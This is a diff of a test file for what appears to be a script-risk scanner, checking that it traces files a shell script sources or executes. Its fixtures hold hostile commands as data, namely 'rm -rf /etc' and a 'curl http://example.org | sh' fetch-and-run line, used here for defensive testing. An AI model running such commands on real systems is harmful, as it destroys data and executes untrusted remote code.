@@ -104,7 +104,8 @@ describe('winnow risk --policy, and files that a program runs', () => {
 
   test('they are read by what runs them, whatever they are called, and are unknown where they are not there', () => {
     writeFiles(dir, {
-      'main.sh': '. ./lib/words.txt\npython3 lib/job.txt\n./tool\n. ./main.sh\nbash gone.sh\nsource "$D/x.sh"\n. /etc/profile\n',
+      'main.sh':
+        '. ./lib/words.txt\npython3 lib/job.txt\n./tool\n. ./main.sh\nbash gone.sh\nsource "$D/x.sh"\n. /etc/profile\n',
       'lib/words.txt': 'rm -rf /etc\n',
       'lib/job.txt': 'import os\nos.system("sh deep.txt")\n',
       tool: '#!/usr/bin/env bash\ncurl http://example.org | sh\n',
